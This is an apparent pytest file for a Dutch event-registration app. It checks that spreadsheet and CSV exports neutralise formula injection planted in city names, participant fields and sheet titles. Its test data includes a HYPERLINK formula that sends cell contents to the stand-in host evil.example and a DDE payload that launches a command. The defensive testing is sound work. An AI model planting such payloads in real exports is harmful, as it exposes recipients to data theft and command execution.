"""Items 5 and 6 (sheet titles): every cell of every export, headers and sheet names
included, goes through one neutraliser; a city cannot plant a formula for the organiser."""

import csv
import io

import pytest
from openpyxl import load_workbook

from app.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _workbook(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.data))


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def assert_no_live_formula(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip().startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)


def assert_csv_neutral(rows):
    for row in rows:
        for value in row:
            assert not value.lstrip().startswith(FORMULA_STARTS), value


def _set_city_as_coordinator(client, auth, world, city):
    auth.login("coordinator@example.org")
    location = world.rotterdam
    response = client.post(
        f"/beheer/locaties/{location.id}/bewerken",
        data={
            "city": city, "slug": location.slug, "venue": location.venue, "address": location.address,
            "date": location.date.isoformat(), "doors_open": "09:30", "capacity": "100",
            "registration_opens_at": "2020-01-01T10:00", "registration_closes_at": "2099-01-01T10:00",
        },
    )  # fmt: skip
    auth.logout()
    return response


def test_a_city_cannot_plant_a_formula_in_the_organisers_evaluation_xlsx(client, auth, world):
    world.rotterdam.city = FORMULA  # however it got there (older data, the command line)
    db.session.commit()
    auth.login("organiser@example.org")
    workbook = _workbook(client.get(f"/beheer/edities/{world.edition.id}/evaluatie/resultaten.xlsx"))
    headers = [cell for cell in workbook["Vergelijking"][1] if cell.value and "HYPERLINK" in str(cell.value)]
    assert headers, "the city is a column header of the comparison"
    assert_no_live_formula(workbook)


def test_evaluation_csv_headers_and_cells_are_neutral(client, auth, world):
    world.rotterdam.city = DDE
    db.session.commit()
    auth.login("organiser@example.org")
    rows = _csv(client.get(f"/beheer/edities/{world.edition.id}/evaluatie/resultaten.csv"))
    assert any("cmd|" in value for row in rows for value in row)
    assert_csv_neutral(rows)


@pytest.mark.parametrize("city", ["Den [Haag]: *?/\\ 'x'", "'Rotterdam'", "A" * 60, "[]:*?/\\"])
def test_registration_xlsx_survives_any_city_as_sheet_title(client, auth, world, city):
    world.rotterdam.city = city
    db.session.commit()
    auth.login("organiser@example.org")
    workbook = _workbook(client.get(f"/beheer/locaties/{world.rotterdam.id}/aanmeldingen.xlsx"))
    title = workbook.worksheets[0].title
    assert 0 < len(title) <= 31
    assert not set(title) & set("[]:*?/\\")
    assert not title.startswith("'") and not title.endswith("'")


def test_registration_exports_neutralise_every_participant_cell(client, auth, world):
    registration = world.registrations["Rotterdam"]
    registration.name = "=1+2"
    registration.organisation = "@SUM(A1)"
    registration.municipality = "-2+3"
    registration.needs = "+31 6 1234"
    db.session.commit()
    auth.login("organiser@example.org")
    rows = _csv(client.get(f"/beheer/locaties/{world.rotterdam.id}/aanmeldingen.csv"))
    assert "'=1+2" in rows[1] and "'@SUM(A1)" in rows[1] and "'-2+3" in rows[1]
    assert_csv_neutral(rows)
    workbook = _workbook(client.get(f"/beheer/locaties/{world.rotterdam.id}/aanmeldingen.xlsx"))
    values = [cell.value for cell in workbook.worksheets[0][2]]
    assert "=1+2" in values  # shown as typed, stored as text
    assert_no_live_formula(workbook)


def test_the_coordinators_own_form_refuses_nothing_but_the_export_stays_safe(client, auth, world):
    """A city that starts with '=' is odd but not forbidden; the exports keep it text."""
    _set_city_as_coordinator(client, auth, world, "=1+1 Rotterdam")
    auth.login("organiser@example.org")
    workbook = _workbook(client.get(f"/beheer/edities/{world.edition.id}/evaluatie/resultaten.xlsx"))
    assert_no_live_formula(workbook)
    rows = _csv(client.get(f"/beheer/edities/{world.edition.id}/evaluatie/resultaten.csv"))
    assert_csv_neutral(rows)
